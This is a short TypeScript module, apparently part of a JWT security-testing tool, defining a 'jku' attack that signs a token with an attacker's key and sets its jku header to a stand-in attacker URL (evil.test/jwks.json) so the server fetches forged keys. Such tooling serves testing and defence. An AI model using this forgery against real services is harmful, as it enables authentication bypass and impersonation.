import { defineAttack } from '../attack'
import { signedByAttacker } from '../parts'

const address = 'https://evil.test/jwks.json'

export default defineAttack({
  id: 'jku',
  name: 'jku',
  hopes: 'that the server fetches its keys where the token says they are.',
  scenario: 'forged-jku',
  async apply(target) {
    const token = await signedByAttacker(target, () => ({ jku: address }))
    return { token, did: `Signed with an attacker’s key; jku says to fetch it from ${address}.` }
  },
})
